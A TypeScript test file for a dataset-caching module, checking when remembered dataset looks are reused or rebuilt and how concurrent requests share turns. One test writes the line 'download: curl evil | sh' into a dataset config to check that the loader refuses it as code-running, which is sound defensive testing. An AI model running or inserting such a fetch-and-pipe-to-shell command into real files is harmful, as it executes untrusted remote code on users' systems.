import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { observeInThread } from "../disk.ts";
import { rememberGlances, takeTurns } from "./glances.ts";
import { observe } from "./observe.ts";
import { openDatasets } from "./open.ts";
import { folderOf, write } from "../../tests/support/dataset_folders.ts";

const YOLO = "train: images\nval: images\nnc: 1\n";
const BOX = "0 0.5 0.5 0.1 0.1\n";
const LONG_AGO = new Date("2024-01-18T15:30:00Z");
const EARLIER = new Date("2024-01-18T15:29:00Z");

const DATASET = {
  path: "set",
  name: "set",
  format: "yolo" as const,
  task_types: [],
  num_classes: 1,
  class_names: ["a"],
  refusal: null,
};

const OBSERVERS = [["here", observe], ["in the thread", observeInThread]] as const;

describe.each(OBSERVERS)("a remembered look, observed %s", (_where, by) => {
  /** Looks at a folder and a file in it, taken as settled, and counts how often. */
  async function counted() {
    const root = await folderOf({ "set/data.yaml": YOLO });
    const folder = join(root, "set");
    const file = join(folder, "data.yaml");
    // Time stamps go by ticks of the system: what is made and changed in one would keep its stamp.
    for (const path of [file, folder]) await Deno.utime(path, LONG_AGO, LONG_AGO);
    let looks = 0;
    const glances = rememberGlances(async (_, { leads, seen }) => {
      looks++;
      leads.set(folder, await Deno.realPath(folder));
      seen.add(file).add(join(folder, "missing"));
      return { dataset: DATASET, real: folder };
    }, { settledMs: -1000 });
    return { folder, file, glances, glance: () => glances.at("set", by), looks: () => looks };
  }

  test("is made once while nothing changes, and recalled", async () => {
    const { glances, glance, looks } = await counted();
    expect(glances.recall("set")).toBeUndefined();
    for (let i = 0; i < 3; i++) expect(await glance()).toEqual(DATASET);
    expect(looks()).toBe(1);
    expect(glances.recall("set")).toEqual(DATASET);
  });

  test.each<[string, (places: { file: string; folder: string }) => Promise<unknown>]>([
    ["a file is written", ({ file }) => Deno.writeTextFile(file, YOLO + "# more\n")],
    ["a file is set back in time", ({ file }) => Deno.utime(file, EARLIER, EARLIER)],
    ["a file goes", ({ file }) => Deno.remove(file)],
    ["a missing file comes", ({ folder }) => Deno.writeTextFile(join(folder, "missing"), "")],
    ["a file is added", ({ folder }) => Deno.writeTextFile(join(folder, "new.jpg"), "")],
    ["the folder is replaced", async ({ folder }) => {
      await Deno.rename(folder, `${folder}.old`);
      await Deno.mkdir(folder);
    }],
    ["the folder becomes a link to another", async ({ folder }) => {
      await Deno.rename(folder, `${folder}.old`);
      await Deno.symlink(`${folder}.old`, folder);
    }],
  ])("is made anew when %s", async (_, change) => {
    const { folder, file, glance, looks } = await counted();
    await glance();
    await change({ file, folder });
    await glance();
    expect(looks()).toBe(2);
  });
});

test("a folder deeper in the dataset is looked after once a second", async () => {
  const root = await folderOf({ "set/data.yaml": YOLO, "set/labels/train/1.txt": BOX });
  const real = join(root, "set");
  const deep = join(real, "labels/train");
  // As above: made and changed in one tick, it would keep its stamp.
  await Deno.utime(deep, LONG_AGO, LONG_AGO);
  let looks = 0;
  const glances = rememberGlances((_, { seen }) => {
    looks++;
    seen.add(deep);
    return Promise.resolve({ dataset: DATASET, real });
  }, { settledMs: -1000 });
  await glances.at("set", observe);
  await write(deep, { "2.txt": BOX });
  const changed = performance.now();
  await expect.poll(async () => (await glances.at("set", observe), looks)).toBe(2);
  expect(performance.now() - changed).toBeLessThan(3000);
});

test("what changed just now is not remembered, nor is a refusal", async () => {
  const root = await folderOf({ "set/data.yaml": YOLO });
  const real = join(root, "set");
  for (
    const [dataset, settledMs] of [
      [DATASET, 60_000],
      [
        { ...DATASET, refusal: { key: "dataset_unrecognised", dataset_path: "set" } as const },
        -1000,
      ],
    ] as const
  ) {
    let looks = 0;
    const glances = rememberGlances(() => {
      looks++;
      return Promise.resolve({ dataset, real });
    }, { settledMs });
    await glances.at("set", observe);
    await glances.at("set", observe);
    expect(looks).toBe(2);
    expect(glances.recall("set")).toBeUndefined();
  }
});

test("a dataset's looks name what they rest on", async () => {
  const root = await folderOf({
    "set/data.yaml": YOLO,
    "set/images/1.jpg": "",
    "set/labels/1.txt": BOX,
  });
  const datasets = openDatasets([root]);
  expect(await datasets.find("set")).toMatchObject({ refusal: null, num_classes: 1 });
  await write(join(root, "set"), { "data.yaml": YOLO + "download: curl evil | sh\n" });
  expect(await datasets.find("set")).toMatchObject({ refusal: { key: "dataset_runs_code" } });
  await write(join(root, "set"), { "data.yaml": YOLO.replace("nc: 1", "nc: 2") });
  expect(await datasets.find("set")).toMatchObject({ refusal: null, num_classes: 2 });
  await Deno.remove(join(root, "set"), { recursive: true });
  expect(await datasets.find("set")).toBeUndefined();
});

describe("turns", () => {
  test("who asks before work begins shares it, who asks later the next, which begins after", async () => {
    const runs: PromiseWithResolvers<string>[] = [];
    const ask = takeTurns(() => {
      runs.push(Promise.withResolvers<string>());
      return runs.at(-1)!.promise;
    });
    // A timer alone may be sooner than the end of the turn.
    const nextTurn = async () => {
      await new Promise((resolve) => setTimeout(resolve));
      await new Promise((resolve) => setImmediate(resolve));
    };
    const [first, second] = [ask("a"), ask("a")];
    expect(runs).toHaveLength(0);
    await nextTurn();
    expect(runs).toHaveLength(1);
    const [third, fourth] = [ask("a"), ask("a")];
    await nextTurn();
    expect(runs).toHaveLength(1);
    runs[0]!.resolve("before");
    expect(await Promise.all([first, second])).toEqual(["before", "before"]);
    await nextTurn();
    expect(runs).toHaveLength(2);
    runs[1]!.resolve("after");
    expect(await Promise.all([third, fourth])).toEqual(["after", "after"]);
    const last = ask("a");
    await nextTurn();
    expect(runs).toHaveLength(3);
    runs[2]!.resolve("later");
    expect(await last).toBe("later");
  });

  test("a failure is told to who shared it, and the next run is made", async () => {
    let fails = true;
    const ask = takeTurns((key) => fails ? Promise.reject(new Error(key)) : Promise.resolve(key));
    const outcomes = await Promise.allSettled([ask("a"), ask("b")]);
    expect(outcomes.map(({ status }) => status)).toEqual(["rejected", "rejected"]);
    fails = false;
    expect(await Promise.all([ask("a"), ask("a")])).toEqual(["a", "a"]);
  });
});
